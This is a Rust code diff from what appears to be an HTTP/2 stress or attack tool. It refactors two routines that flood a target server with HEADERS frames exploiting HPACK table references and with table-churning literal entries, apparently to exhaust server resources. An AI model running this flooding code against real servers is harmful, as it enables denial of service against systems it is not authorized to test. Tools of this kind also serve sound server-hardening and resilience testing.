@@ -21,7 +21,7 @@ const NEWEST_ENTRY: u8 = 0x80 | 62;
 const LONG_LITERAL: [u8; 7] = [0, 1, b'x', 0x7f, 0xe1, 0xd3, 3];
 /// Frames of CONTINUATION that servers accept without END_HEADERS.
 const ALLOWED_CONTINUATIONS: usize = 3;
-/// Calls that are sent at once, and then awaited.
+/// Calls that are sent at once.
 const CALLS: u32 = 10;
 /// New entries of each call. Each is about 100 bytes, so that they fill the default table.
 const ENTRIES: u32 = 40;
@@ -59,7 +59,11 @@ fn repeated_headers(target: &str, attack: &AttackState, times: usize) -> io::Res
     let flags = END_HEADERS | END_STREAM;
     peer.send(&frame(HEADERS, flags, 1, &[&request[..], &indexed].concat()))?;
     let block = [request, vec![NEWEST_ENTRY; times]].concat();
-    peer.flood(|round| frame(HEADERS, flags, 2 * round + 3, &block))
+    let request = |call| frame(HEADERS, flags, 2 * call + 3, &block);
+    peer.flood(|round| {
+        let requests = (CALLS * round..CALLS * (round + 1)).map(request);
+        requests.collect::<Vec<_>>().concat()
+    })
 }
 
 /// Complete calls, each of which replaces the whole table.
@@ -67,18 +71,16 @@ pub(super) fn table_churn(target: &str, attack: &AttackState) -> io::Result<()> 
     let mut peer = HostilePeer::connect(target, &[], attack)?;
     let whole_window = (MAX_WINDOW - DEFAULT_WINDOW).to_be_bytes();
     peer.send(&frame(WINDOW_UPDATE, 0, 0, &whole_window))?; // for the replies
+    let request = call_headers(sample::PATH);
+    let entry = |number| [&[0x40, 1, b'x', 60][..], format!("{number:060}").as_bytes()].concat();
     for round in 0.. {
-        let calls = (0..CALLS).map(|call| CALLS * round + call);
-        let calls = calls.flat_map(|call| {
-            let entries = (0..ENTRIES).flat_map(|entry| {
-                let value = format!("{:060}", ENTRIES * call + entry);
-                [&[0x40, 1, b'x', 60][..], value.as_bytes()].concat()
-            });
-            let block = call_headers(sample::PATH).into_iter().chain(entries);
-            let head = frame(HEADERS, END_HEADERS, 2 * call + 1, &block.collect::<Vec<_>>());
+        let calls = (CALLS * round..CALLS * (round + 1)).map(|call| {
+            let entries = (ENTRIES * call..ENTRIES * (call + 1)).map(entry);
+            let block = [request.clone(), entries.collect::<Vec<_>>().concat()].concat();
+            let head = frame(HEADERS, END_HEADERS, 2 * call + 1, &block);
             [head, frame(DATA, END_STREAM, 2 * call + 1, &framed(b""))].concat()
         });
-        peer.send(&calls.collect::<Vec<_>>())?;
+        peer.send(&calls.collect::<Vec<_>>().concat())?;
         peer.wait_for_ended_streams(CALLS * (round + 1))?;
     }
     Ok(())
